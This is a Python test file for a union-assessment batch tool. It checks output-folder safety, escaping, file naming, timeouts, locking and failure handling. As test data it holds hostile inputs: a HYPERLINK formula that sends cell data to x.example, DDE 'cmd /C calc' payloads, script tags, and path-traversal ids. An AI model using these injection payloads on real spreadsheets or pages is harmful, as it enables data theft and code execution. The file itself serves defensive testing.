"""`unionscore batch` outputs a county can trust: each test feeds the input a tester found harmful.

The module tries 74 hostile inputs: 19 output folders (the source itself, folders holding a
source, foreign files where outputs go, a marker naming other files, an older unionscore's
folder), 16 unions with formulas, links, HTML, a long id or ids differing in case (one batch),
3 CSV cells, 21 ids for file names, a stem collision, a umask, 4 unions that run too long or
hang their worker, a killed and a terminated batch, a worker lost between two chunks, a second
batch into a busy folder, 2 full disks and 3 folders that cannot be written.
"""
from __future__ import annotations

import csv
import errno
import fcntl
import json
import os
import re
import shutil
import signal
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner

import engine.batch.run
import engine.batch.workers
from cli import cli
from engine.batch import output_folder
from engine.batch.manifest import LOCK, MARKER
from engine.batch.output_folder import STAGE
from engine.batch.workers import Chunk, Pool
from engine.facts.sources import OUTPUT_MARKER, Unit
from engine.load.rulesets import resolve_rulesets
from engine.report.summary_workbook import csv_value
from engine.report.union_page import union_file_stem

ROOT = Path(__file__).resolve().parents[2]
COUNTY = ROOT / "facts" / "qingshan"
SAFE_STEM = re.compile(r"[A-Za-z0-9_~-]{1,64}")
WINDOWS_RESERVED = {"CON", "PRN", "AUX", "NUL", *(f"{p}{n}" for p in ("COM", "LPT") for n in range(10))}


def run(*args: str):
    return CliRunner().invoke(cli, ["batch", *args], catch_exceptions=False)


def bayou(source: Path | str, out: Path, *more: str):
    return run(str(source), "--out", str(out), "--ruleset", "bayou", "--jobs", "1", *more)


@pytest.fixture
def sample(tmp_path: Path) -> Path:
    """Three example unions in a folder."""
    folder = tmp_path / "facts"
    folder.mkdir()
    for name in ("QS-001.yaml", "QS-002.yaml", "QS-003.yaml"):
        shutil.copy(COUNTY / name, folder)
    return folder


def hostile_fact(folder: Path, number: int, **union: str) -> None:
    """QS-001's facts under another id, name or township (JSON strings are YAML double-quoted scalars)."""
    text = (COUNTY / "QS-001.yaml").read_text(encoding="utf-8")
    for key, value in union.items():
        text = re.sub(rf"^  {key}: .*$", lambda _, k=key, v=value: f"  {k}: {json.dumps(v, ensure_ascii=False)}", text, count=1, flags=re.M)
    (folder / f"U{number:02d}.yaml").write_text(text, encoding="utf-8")


def our_files(out: Path) -> set[str]:
    return {str(p.relative_to(out)) for p in out.rglob("*")}


# --- 1. --out never harms the sources or files unionscore did not write -----------------------------

def test_out_equal_to_the_source_is_refused_and_force_deletes_nothing(sample):
    before = our_files(sample)
    result = bayou(sample, sample, "--force")
    assert result.exit_code == 2
    assert f"输出目录 {sample} 与来源 {sample} 相同或包含该来源" in result.stderr
    assert our_files(sample) == before


@pytest.mark.parametrize("where", ["source folder inside out", "source file inside out", "out a link to the source"])
def test_out_holding_a_source_is_refused(tmp_path, sample, where):
    out = tmp_path / "out"
    if where == "out a link to the source":
        out.symlink_to(sample)
        source = sample
    else:
        out.mkdir()
        source = out / "facts"
        shutil.copytree(sample, source)
        if where == "source file inside out":
            source = source / "QS-001.yaml"
    result = bayou(source, out, "--force")
    assert result.exit_code == 2
    assert "相同或包含该来源；请另选一个输出目录，以免覆盖或删除原始数据" in result.stderr
    assert (sample / "QS-001.yaml").is_file() and not (out / MARKER).exists()


def test_an_output_folder_inside_the_source_folder_is_never_read_as_a_source(sample):
    out = sample / "out"
    assert bayou(sample, out).exit_code == 0
    (out / "copied").mkdir()
    shutil.copy(sample / "QS-001.yaml", out / "copied")  # read, it would be a duplicate QS-001
    again = bayou(sample, out)
    assert again.exit_code == 0, again.stderr
    assert again.stdout.splitlines()[-1] == "已评估 3 个工会，失败 0 个。"
    assert MARKER == OUTPUT_MARKER


@pytest.mark.parametrize("name", ["summary.csv", "report.html", "results.jsonl", "unions/QS-001.html", "unions/老报告.md"])
def test_force_never_overwrites_a_file_it_did_not_write(tmp_path, sample, name):
    out = tmp_path / "out"
    (out / "unions").mkdir(parents=True)
    (out / name).write_text("县里自己的文件", encoding="utf-8")
    result = bayou(sample, out, "--force")
    assert result.exit_code == 2
    assert f"输出目录 {out} 中已有不是 unionscore 写入的 {name}，不会覆盖或删除" in result.stderr
    assert (out / name).read_text(encoding="utf-8") == "县里自己的文件"
    assert not (out / MARKER).exists()
    assert not (out / LOCK).exists()  # a refused run leaves nothing of its own in the county's folder


@pytest.mark.parametrize("unions", ["a file", "a link"])
def test_a_unions_entry_that_is_not_our_folder_is_refused(tmp_path, sample, unions):
    out, elsewhere = tmp_path / "out", tmp_path / "elsewhere"
    out.mkdir()
    elsewhere.mkdir()
    if unions == "a file":
        (out / "unions").write_text("不是目录", encoding="utf-8")
    else:
        (out / "unions").symlink_to(elsewhere)
    result = bayou(sample, out, "--force")
    assert result.exit_code == 2 and "不是 unionscore 写入的 unions，" in result.stderr
    assert not any(elsewhere.iterdir())


def test_force_removes_only_the_files_unionscore_wrote(tmp_path, sample):
    out = tmp_path / "out"
    (out / "unions").mkdir(parents=True)
    (out / "notes.txt").write_text("不要动我", encoding="utf-8")
    (out / "unions" / "说明.txt").write_text("也不要动我", encoding="utf-8")
    assert bayou(sample, out, "--force").exit_code == 0
    (sample / "QS-003.yaml").unlink()
    assert bayou(sample, out).exit_code == 0
    assert (out / "notes.txt").read_text(encoding="utf-8") == "不要动我"
    assert (out / "unions" / "说明.txt").read_text(encoding="utf-8") == "也不要动我"
    assert not (out / "unions" / "QS-003.html").exists() and (out / "unions" / "QS-002.html").exists()
    marker = (out / MARKER).read_text(encoding="utf-8").splitlines()
    assert "unions/QS-002.md" in marker and "notes.txt" not in marker and marker[-1] == "# 状态：完成"


def test_a_marker_naming_other_files_removes_nothing_else(tmp_path, sample):
    out, victim = tmp_path / "out", tmp_path / "victim.txt"
    out.mkdir()
    victim.write_text("外面的文件", encoding="utf-8")
    (out / "notes.txt").write_text("里面的文件", encoding="utf-8")
    names = ["../victim.txt", str(victim), "notes.txt", "unions/../../victim.txt", "unions/../notes.txt"]
    (out / MARKER).write_text("\n".join(names) + "\n", encoding="utf-8")
    assert bayou(sample, out).exit_code == 0
    assert victim.is_file() and (out / "notes.txt").is_file()


def test_a_folder_written_before_the_list_of_files_is_taken_over(tmp_path, sample):
    out = tmp_path / "out"
    (out / "unions").mkdir(parents=True)
    (out / MARKER).write_text("unionscore batch output\n", encoding="utf-8")
    for name in ("summary.csv", "report.html", "unions/QS-009.html", "unions/QS-009.md"):
        (out / name).write_text("旧版输出", encoding="utf-8")
    assert bayou(sample, out).exit_code == 0
    assert not (out / "unions" / "QS-009.html").exists()
    assert "旧版输出" not in (out / "summary.csv").read_text(encoding="utf-8-sig")


# --- 2. Text from fact files stays text: no formulas, links or HTML in what people open ------------

LONG_ID = "青山县城关街道第一中学教职工工会委员会联合会第一分会"  # 26 characters: its page name used to pass 255 bytes
HOSTILE_UNIONS = [
    {"id": "=1+2", "name": '=HYPERLINK("http://x.example/?"&A1,"点击")'},
    {"id": "H-02", "name": "+cmd|' /C calc'!A0"},
    {"id": "H-03", "name": "-2+3"},
    {"id": "H-04", "name": "@SUM(1+1)*cmd|' /C calc'!A0"},
    {"id": "H-05", "name": "\t=1+1"},
    {"id": "H-06", "name": "\r=1+1"},
    {"id": "H-07", "name": "http://evil.example/"},
    {"id": "H-08", "name": '<img src="http://x.example/a.png">'},
    {"id": "H-09", "name": "![图](http://x.example/a.png)"},
    {"id": "H-10", "name": "[点击领取](http://x.example/)"},
    {"id": "H-11", "name": "<script>alert(1)</script>", "township": "<b>镇</b>"},
    {"id": "H-12", "name": "甲\n# 假标题\n<img src=x>"},
    {"id": "H-13", "name": "a | b ` c & d"},
    {"id": LONG_ID},
    {"id": "qs-001"},
    {"id": "QS-001"},
]


@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> Path:
    """One batch over every union of HOSTILE_UNIONS, with --jobs 2."""
    folder = tmp_path_factory.mktemp("hostile")
    (folder / "facts").mkdir()
    for number, union in enumerate(HOSTILE_UNIONS):
        hostile_fact(folder / "facts", number, **union)
    result = run(str(folder / "facts"), "--out", str(folder / "out"), "--ruleset", "bayou", "--jobs", "2")
    assert result.exit_code == 0, result.stderr
    return folder / "out"


def test_text_cells_stay_text_in_summary_xlsx(hostile):
    with zipfile.ZipFile(hostile / "summary.xlsx") as book:
        sheets = [book.read(name).decode() for name in book.namelist() if name.startswith("xl/worksheets/sheet")]
    assert sheets and not any("<f>" in sheet or "<hyperlink" in sheet for sheet in sheets)
    cells = {cell.value: cell.data_type for row in openpyxl.load_workbook(hostile / "summary.xlsx").worksheets[0].iter_rows() for cell in row}
    assert cells["=1+2"] == "s" and cells['=HYPERLINK("http://x.example/?"&A1,"点击")'] == "s"
    assert cells["http://evil.example/"] == "s"


def test_summary_csv_cells_that_a_spreadsheet_would_run_start_with_a_quote(hostile):
    with (hostile / "summary.csv").open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    names = {row["编号"]: row["名称"] for row in rows}
    assert names["'=1+2"] == "'=HYPERLINK(\"http://x.example/?\"&A1,\"点击\")"
    assert names["H-02"] == "'+cmd|' /C calc'!A0" and names["H-03"] == "'-2+3" and names["H-04"].startswith("'@")
    assert names["H-05"].startswith(("'\t", "'=")) and names["H-06"].startswith(("'\r", "'="))
    assert not [cell for row in rows for cell in row.values() if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]


@pytest.mark.parametrize(("value", "cell"), [(-2, "-2"), (-2.5, "-2.5"), ("-2", "'-2")])
def test_numbers_stay_numbers_in_summary_csv(value, cell):
    assert csv_value(value) == cell


def test_markdown_pages_show_names_as_written_never_as_html_links_or_images(hostile):
    pages = {p.name: p.read_text(encoding="utf-8") for p in (hostile / "unions").glob("*.md")}
    assert len(pages) == len(HOSTILE_UNIONS)
    for name, page in pages.items():
        unescaped = re.sub(r"\\.", "", page)  # what is left once every backslash escape is taken out
        assert not re.search(r"[<\[\]`&]", unescaped), name
        assert "\n# 假标题" not in page
    page = pages[f"{union_file_stem('H-09')}.md"]
    assert page.startswith("# !\\[图\\](http://x.example/a.png) 考核评价报告\n")
    assert "\\<b\\>镇\\</b\\>" in pages[f"{union_file_stem('H-11')}.md"]


# --- 3. File names: short, safe and distinct for any id ---------------------------------------------

def test_long_and_case_only_different_ids_get_their_own_pages(hostile):
    stems = {p.stem for p in (hostile / "unions").iterdir()}
    assert len(stems) == len(HOSTILE_UNIONS) and len({s.casefold() for s in stems}) == len(stems)
    assert "QS-001" in stems and union_file_stem("qs-001") in stems and union_file_stem(LONG_ID) in stems
    assert all(SAFE_STEM.fullmatch(stem) for stem in stems)
    assert f'href="unions/{union_file_stem(LONG_ID)}.html"' in (hostile / "report.html").read_text(encoding="utf-8")


HOSTILE_IDS = ["../../etc/passwd", "a/b", "a\\b", "CON", "con", "COM1", "LPT9", "NUL", "aux.txt", "a:b", "a*b?<>|\"",
               "a\x00b", "a\x1fb\x7f", ".hidden", "-rf", "", " ", "名" * 200, "X" * 300, "qs-001", "Qs-001"]


def test_any_id_gets_a_short_safe_stem_of_its_own():
    stems = [union_file_stem(union_id) for union_id in HOSTILE_IDS]
    assert all(SAFE_STEM.fullmatch(stem) and stem.upper() not in WINDOWS_RESERVED for stem in stems), stems
    assert len({stem.casefold() for stem in stems}) == len(HOSTILE_IDS)
    assert stems == [union_file_stem(union_id) for union_id in HOSTILE_IDS]  # the id alone decides
    assert union_file_stem("QS-001") == "QS-001"


def test_two_ids_with_the_same_stem_never_share_a_page(sample, tmp_path, monkeypatch):
    monkeypatch.setattr("engine.batch.run.union_file_stem", lambda union_id: "SAME")
    result = bayou(sample, tmp_path / "out")
    assert result.exit_code == 1
    assert "QS-002.yaml: 工会编号 “QS-002” 与 “QS-001” 的报告文件名相同，本单位未计入" in result.stderr


# --- 4. Permissions follow the umask ----------------------------------------------------------------

def test_outputs_follow_the_umask(sample, tmp_path):
    previous = os.umask(0o027)
    try:
        assert bayou(sample, tmp_path / "out").exit_code == 0
    finally:
        os.umask(previous)
    modes = {str(p): p.stat().st_mode & 0o777 for p in (tmp_path / "out").rglob("*") if p.is_file()}
    assert len(modes) == 4 + 2 * 3 + 2 and set(modes.values()) == {0o640}, modes


# --- 5. A batch that always ends ----------------------------------------------------------------------

def test_a_union_that_runs_too_long_is_stopped_and_reported(sample, tmp_path, monkeypatch):
    real = engine.batch.workers.assess

    def endless(rulesets, facts, *args):
        while facts.union["id"] == "QS-002":
            pass
        return real(rulesets, facts, *args)

    monkeypatch.setattr(engine.batch.workers, "assess", endless)
    result = bayou(sample, tmp_path / "out", "--timeout", "1")
    assert result.exit_code == 1
    assert result.stdout.splitlines()[-1] == "已评估 2 个工会，失败 1 个。"
    assert "QS-002.yaml: 评估此工会超过 1 秒仍未完成，已停止（时限由 --timeout 设定），其余工会不受影响" in result.stderr


def stop_self(rulesets, facts, *args):
    os.kill(os.getpid(), signal.SIGSTOP)


def stuck_in_c(rulesets, facts, *args):
    signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGALRM})  # as C code that never returns to Python
    time.sleep(3600)


@pytest.mark.parametrize("hang", [stop_self, stuck_in_c])
def test_a_worker_that_stops_answering_is_killed_and_the_batch_goes_on(sample, tmp_path, monkeypatch, hang):
    real = engine.batch.workers.assess

    def hanging(rulesets, facts, *args):
        return hang(rulesets, facts) if facts.union["id"] == "QS-002" else real(rulesets, facts, *args)

    monkeypatch.setattr(engine.batch.workers, "assess", hanging)
    started = time.monotonic()
    result = bayou(sample, tmp_path / "out", "--timeout", "1")
    assert result.exit_code == 1
    assert result.stdout.splitlines()[-1] == "已评估 2 个工会，失败 1 个。"
    assert "QS-002.yaml: 评估此工会超过 1 秒，工作进程无响应，已终止（时限由 --timeout 设定）" in result.stderr
    assert time.monotonic() - started < 30


def test_a_union_hanging_a_worker_in_a_later_chunk_is_found(tmp_path, monkeypatch):
    folder = tmp_path / "facts"
    folder.mkdir()
    for path in sorted(COUNTY.glob("QS-0*.yaml"))[:20]:
        shutil.copy(path, folder)
    real = engine.batch.workers.assess

    def hanging(rulesets, facts, *args):
        return stop_self(rulesets, facts) if facts.union["id"] == "QS-018" else real(rulesets, facts, *args)

    monkeypatch.setattr(engine.batch.workers, "assess", hanging)
    result = run(str(folder), "--out", str(tmp_path / "out"), "--ruleset", "bayou", "--jobs", "2", "--timeout", "1")
    assert result.exit_code == 1
    assert result.stdout.splitlines()[-1] == "已评估 19 个工会，失败 1 个。"
    assert "QS-018.yaml: 评估此工会超过 1 秒，工作进程无响应" in result.stderr


STUCK = """
import os, sys, time
import engine.batch.workers as workers
real = workers.assess
def stuck(rulesets, facts, *args):
    if facts.union["id"] == "QS-002":
        with open(sys.argv[1] + ".part", "w") as handle:
            handle.write(str(os.getpid()))
        os.rename(sys.argv[1] + ".part", sys.argv[1])
        time.sleep(600)
    return real(rulesets, facts, *args)
workers.assess = stuck
from cli import cli
cli(sys.argv[2:], prog_name="unionscore")
"""


def gone(pid: int) -> bool:
    try:
        return Path(f"/proc/{pid}/stat").read_text().split(") ")[1][0] in "ZX"
    except (FileNotFoundError, ProcessLookupError):
        return True


def stuck_batch(sample: Path, out: Path, pid_file: Path) -> tuple[subprocess.Popen, int]:
    """A batch in its own process whose worker is stuck on QS-002, and that worker's pid."""
    command = [sys.executable, "-c", STUCK, str(pid_file), "batch", str(sample), "--out", str(out), "--ruleset", "bayou", "--jobs", "1"]
    batch = subprocess.Popen(command, cwd=ROOT, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    deadline = time.monotonic() + 60
    while not pid_file.exists():
        assert time.monotonic() < deadline and batch.poll() is None, batch.communicate()
        time.sleep(0.05)
    return batch, int(pid_file.read_text())


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="PR_SET_PDEATHSIG is Linux's")
def test_workers_die_with_a_killed_batch(sample, tmp_path):
    batch, worker = stuck_batch(sample, tmp_path / "out", tmp_path / "worker.pid")
    batch.kill()
    batch.communicate()
    deadline = time.monotonic() + 10
    while not gone(worker):
        assert time.monotonic() < deadline, "the worker outlived its batch"
        time.sleep(0.05)


def test_a_terminated_batch_ends_its_workers_and_leaves_nothing_that_looks_complete(sample, tmp_path):
    out = tmp_path / "out"
    batch, worker = stuck_batch(sample, out, tmp_path / "worker.pid")
    batch.terminate()
    assert batch.wait(timeout=30) == 1
    assert batch.stderr is not None and batch.stderr.read().endswith("错误：批量评估未完成：运行被中断（Ctrl-C 或 SIGTERM）；"
                                                                      "本次写入的文件已删除，输出目录中的 .unionscore-output 记下了这次失败。\n")
    assert gone(worker)
    assert our_files(out) == {MARKER, LOCK}
    assert "# 状态：未完成（运行被中断" in (out / MARKER).read_text(encoding="utf-8")


def test_a_worker_lost_between_two_chunks_is_replaced(sample, tmp_path):
    pool = Pool(1, resolve_rulesets(["bayou"]), None, tmp_path, 60)
    chunk = Chunk(0, [Unit(str(sample / "QS-001.yaml"), path=str(sample / "QS-001.yaml"))])
    try:
        assert not pool.result(pool.submit(chunk))[0].errors
        os.kill(pool.watch.pids()[0], signal.SIGKILL)  # as the out-of-memory killer does
        deadline = time.monotonic() + 10
        while not pool.executor._broken:  # until the pool knows (a private attribute: a test may look)
            assert time.monotonic() < deadline
            time.sleep(0.05)
        assert not pool.result(pool.submit(chunk))[0].errors
    finally:
        pool.close()


HALF_SENT = """
import os, sys, time
sys.path.insert(0, sys.argv[1])
import engine.batch.workers as workers
from engine.load.rulesets import resolve_rulesets

def half_sent(chunk):  # a worker killed half-way through sending its outcomes: half a message in the pipe
    frame = sys._getframe()
    while "result_queue" not in frame.f_locals:
        frame = frame.f_back
    os.write(frame.f_locals["result_queue"]._writer.fileno(), (100000).to_bytes(4, "big") + b"x" * 10)
    os._exit(1)

workers.assess_chunk = half_sent  # forked workers look it up here
pool = workers.Pool(1, resolve_rulesets(["bayou"]), None, sys.argv[2], 60)
future = pool.submit(workers.Chunk(0, []))
time.sleep(1)
pool.kill()  # the batch stops: Ctrl-C, SIGTERM, or a restart after a crash
pool.close()
print("closed", future.done())
"""


def test_a_worker_killed_half_way_through_sending_does_not_hang_the_batch(tmp_path):
    """The pool's result reader waited for the rest of a half-sent message for ever: about one SIGTERM in 40 at the
    end of a run left the batch hung with its workers dead."""
    done = subprocess.run([sys.executable, "-c", HALF_SENT, str(ROOT), str(tmp_path)], capture_output=True, text=True, timeout=60, check=False)
    assert done.stdout == "closed True\n", done.stderr

# --- 6. One batch at a time per output folder ---------------------------------------------------------

def test_a_second_batch_into_the_same_folder_is_refused(sample, tmp_path):
    out = tmp_path / "out"
    assert bayou(sample, out).exit_code == 0
    report = (out / "report.html").read_bytes()
    handle = os.open(out / LOCK, os.O_RDWR)
    try:
        fcntl.flock(handle, fcntl.LOCK_EX)  # the first batch, still running
        result = bayou(sample, out)
    finally:
        os.close(handle)
    assert result.exit_code == 1
    assert result.stderr == f"错误：输出目录 {out} 正被另一个 unionscore batch 使用；请等它结束后再运行，或另选输出目录\n"
    assert (out / "report.html").read_bytes() == report


def test_a_second_batch_into_a_new_folder_still_being_filled_is_told_it_is_in_use(sample, tmp_path):
    """The first run of a folder has only its lock and its stage there: the second is told the folder is in use,
    not asked for --force."""
    out = tmp_path / "out"
    (out / STAGE).mkdir(parents=True)
    handle = os.open(out / LOCK, os.O_RDWR | os.O_CREAT)
    try:
        fcntl.flock(handle, fcntl.LOCK_EX)
        result = bayou(sample, out)
    finally:
        os.close(handle)
    assert result.exit_code == 1 and "正被另一个 unionscore batch 使用" in result.stderr


def test_a_lock_taken_on_a_file_removed_meanwhile_is_taken_again(tmp_path, monkeypatch):
    """A refused run removes the lock file it made. A run that had opened that file before it went locks the file
    at the path instead, so two runs never both hold a lock."""
    locks, real = [], fcntl.flock

    def flock(handle: int, operation: int) -> None:
        if not locks:  # the refused run removes the file between this run's open and its lock
            (tmp_path / LOCK).unlink()
        locks.append(handle)
        real(handle, operation)

    monkeypatch.setattr(output_folder.fcntl, "flock", flock)
    handle = output_folder.lock(tmp_path)
    try:
        assert len(locks) == 2  # the first lock, on the removed file, was dropped
        assert os.fstat(handle).st_ino == (tmp_path / LOCK).stat().st_ino
    finally:
        os.close(handle)


# --- 7. A batch that cannot finish says why and leaves nothing that looks complete ------------------------

def no_space(*args, **kwargs):
    raise OSError(errno.ENOSPC, "No space left on device", str(args[0]))


@pytest.mark.parametrize("write", ["engine.batch.run.write_county_report", "engine.batch.workers.write_pages"])
def test_a_full_disk_is_named_and_the_half_written_outputs_are_removed(sample, tmp_path, monkeypatch, write):
    """The failed run's files go; the last complete run's stay, as they were, and the marker says why and lists them."""
    out = tmp_path / "out"
    assert bayou(sample, out).exit_code == 0
    before = {name: (out / name).read_bytes() for name in our_files(out) if name not in (MARKER, LOCK) and (out / name).is_file()}
    monkeypatch.setattr(write, no_space)
    result = bayou(sample, out)
    assert result.exit_code == 1
    assert result.stderr.startswith("错误：批量评估未完成：磁盘空间已满：")
    assert "本次写入的文件已删除" in result.stderr and "内部错误" not in result.stderr
    assert {name: (out / name).read_bytes() for name in our_files(out) if name not in (MARKER, LOCK) and (out / name).is_file()} == before
    assert "# 状态：未完成（磁盘空间已满" in (out / MARKER).read_text(encoding="utf-8")
    assert "；以下是此前一次运行的文件\nunions/\n" in (out / MARKER).read_text(encoding="utf-8")


def test_a_killed_run_s_stage_is_removed_by_the_next_and_a_run_stopped_while_swapping_leaves_nothing_half(sample, tmp_path):
    """A run killed outright (SIGKILL) leaves its stage: the next run removes it. One stopped while moving its files
    in leaves the folder's marker saying 运行中 over both runs' files: the next run removes every one of them it
    does not write again."""
    out = tmp_path / "out"
    assert bayou(sample, out).exit_code == 0
    (out / STAGE / "unions").mkdir(parents=True)
    (out / STAGE / "unions" / "QS-001.html").write_text("半个页面", encoding="utf-8")
    (out / "unions" / "QS-099.md").write_text("上次搬入一半时留下的页面", encoding="utf-8")
    marker = (out / MARKER).read_text(encoding="utf-8").replace("# 状态：完成\n", "unions/QS-099.md\n")
    (out / MARKER).write_text(marker, encoding="utf-8")
    assert bayou(sample, out).exit_code == 0
    assert not (out / STAGE).exists() and not (out / "unions" / "QS-099.md").exists()
    assert (out / MARKER).read_text(encoding="utf-8").rstrip().endswith("# 状态：完成")


def previous_run(out: Path) -> dict[str, bytes]:
    return {name: (out / name).read_bytes() for name in our_files(out) if name not in (MARKER, LOCK) and (out / name).is_file()}


def test_a_folder_where_a_page_of_ours_was_fails_the_swap_and_the_previous_run_stays(sample, tmp_path):
    """A folder put where the last run's page was is not ours: refused before anything moves, kept with what it holds,
    and the last complete run's files stay as they were."""
    out = tmp_path / "out"
    assert bayou(sample, out).exit_code == 0
    (out / "unions" / "QS-002.md").unlink()
    (out / "unions" / "QS-002.md").mkdir()
    (out / "unions" / "QS-002.md" / "笔记.txt").write_text("县里的笔记", encoding="utf-8")
    before = previous_run(out)
    result = bayou(sample, out)
    assert result.exit_code == 1 and f"{out / 'unions' / 'QS-002.md'} 已存在，且不是 unionscore 写入的；不会覆盖或删除" in result.stderr
    assert previous_run(out) == before


def test_a_move_that_fails_half_way_through_the_swap_moves_everything_back(sample, tmp_path, monkeypatch):
    """The swap sets the last run's files aside and moves this run's in: a move refused half-way (a file that cannot
    be replaced) puts every file back, and the message names the file in the output folder that stopped it."""
    out = tmp_path / "out"
    assert bayou(sample, out).exit_code == 0
    before = previous_run(out)
    real, moved = os.replace, []

    def refused_at_the_third_page(source, target):
        if Path(target).parent == out / "unions" and Path(source).parent.parent.name == STAGE:
            moved.append(target)
            if len(moved) == 3:
                raise PermissionError(errno.EACCES, "Permission denied", str(source), None, str(target))
        real(source, target)

    monkeypatch.setattr(output_folder.os, "replace", refused_at_the_third_page)
    result = bayou(sample, out, "--as-of", "2024-12-31")
    assert result.exit_code == 1 and f"没有写入权限：{moved[2]}" in result.stderr
    assert previous_run(out) == before  # two of the new pages were in place: they went back
    assert not (out / STAGE).exists() and not (out / output_folder.PREVIOUS).exists()
    assert "；以下是此前一次运行的文件" in (out / MARKER).read_text(encoding="utf-8")


def test_a_last_run_s_file_that_cannot_be_set_aside_is_named_where_the_user_sees_it(sample, tmp_path, monkeypatch):
    """An immutable summary.csv (chattr +i) stops the swap: the message named the setting-aside folder's path."""
    out = tmp_path / "out"
    assert bayou(sample, out).exit_code == 0
    before = previous_run(out)
    real = os.replace

    def immutable(source, target):
        if Path(source) == out / "summary.csv":
            raise PermissionError(errno.EPERM, "Operation not permitted", str(source), None, str(target))
        real(source, target)

    monkeypatch.setattr(output_folder.os, "replace", immutable)
    result = bayou(sample, out, "--as-of", "2024-12-31")
    assert result.exit_code == 1 and f"没有写入权限：{out / 'summary.csv'}；" in result.stderr
    assert output_folder.PREVIOUS not in result.stderr and previous_run(out) == before


def test_ctrl_c_and_sigterm_wait_for_the_swap(monkeypatch):
    """A run that has begun to move its files in finishes: a signal then is ignored, and the handlers come back."""
    handler = signal.signal(signal.SIGTERM, engine.batch.run.interrupt)
    try:
        with output_folder.interrupts_held():
            os.kill(os.getpid(), signal.SIGTERM)
            os.kill(os.getpid(), signal.SIGINT)
        assert signal.getsignal(signal.SIGTERM) is engine.batch.run.interrupt
        assert signal.getsignal(signal.SIGINT) is signal.default_int_handler
    finally:
        signal.signal(signal.SIGTERM, handler)


def test_a_page_put_where_ours_goes_during_the_run_is_never_overwritten(sample, tmp_path, monkeypatch):
    out = tmp_path / "out"
    real = engine.batch.run.write_summary_csv

    def meanwhile(*args):
        (out / "unions").mkdir(exist_ok=True)
        (out / "unions" / "QS-001.html").write_text("县里刚放进来的页面", encoding="utf-8")
        return real(*args)

    monkeypatch.setattr(engine.batch.run, "write_summary_csv", meanwhile)
    result = bayou(sample, out)
    assert result.exit_code == 1 and f"{out / 'unions' / 'QS-001.html'} 已存在，且不是 unionscore 写入的；不会覆盖" in result.stderr
    assert (out / "unions" / "QS-001.html").read_text(encoding="utf-8") == "县里刚放进来的页面"
    assert not (out / STAGE).exists() and not (out / "report.html").exists()


def test_a_lost_report_process_stops_the_batch_and_the_outputs_are_removed(sample, tmp_path, monkeypatch):
    """report.html is written in a second process while summary.xlsx is saved: if that process dies, the
    batch says so and removes what it wrote, as on a full disk."""
    out = tmp_path / "out"
    monkeypatch.setattr("engine.batch.run.write_county_report", lambda *args: os._exit(3))
    result = bayou(sample, out)
    assert result.exit_code == 1
    assert result.stderr.startswith("错误：批量评估未完成：写 report.html 的进程意外退出；本次写入的文件已删除")
    assert our_files(out) == {MARKER, LOCK}


@pytest.mark.parametrize(("code", "cause"), [(errno.EROFS, "文件系统是只读的"), (errno.EACCES, "没有写入权限")])
def test_a_folder_that_cannot_be_written_is_named(sample, tmp_path, monkeypatch, code, cause):
    out = tmp_path / "out"

    def refused(folder):
        raise OSError(code, os.strerror(code), str(folder / LOCK))

    monkeypatch.setattr("engine.batch.output_folder.lock", refused)
    result = bayou(sample, out)
    assert result.exit_code == 1
    assert result.stderr == f"错误：批量评估未完成：{cause}：{out / LOCK}。\n"


def without_override() -> list[str]:
    """Root (CAP_DAC_OVERRIDE) writes into read-only folders: run the batch without that power (setpriv, util-linux)."""
    if os.geteuid() != 0:
        return []
    dropped = "-dac_override,-dac_read_search"
    return ["setpriv", f"--bounding-set={dropped}", f"--inh-caps={dropped}", "--"]


def test_a_read_only_folder_keeps_the_previous_outputs(sample, tmp_path):
    out = tmp_path / "out"
    assert bayou(sample, out).exit_code == 0
    before = {name: (out / name).read_bytes() for name in our_files(out) if (out / name).is_file()}
    for folder in (out, out / "unions"):
        folder.chmod(0o555)
    command = [*without_override(), sys.executable, "-c", "from cli import main; main()",
               "batch", str(sample), "--out", str(out), "--ruleset", "bayou", "--jobs", "1"]
    try:
        result = subprocess.run(command, capture_output=True, text=True, cwd=ROOT, check=False)
    finally:
        for folder in (out, out / "unions"):
            folder.chmod(0o755)
    assert result.returncode == 1 and "批量评估未完成：没有写入权限：" in result.stderr
    assert {name: (out / name).read_bytes() for name in before} == before
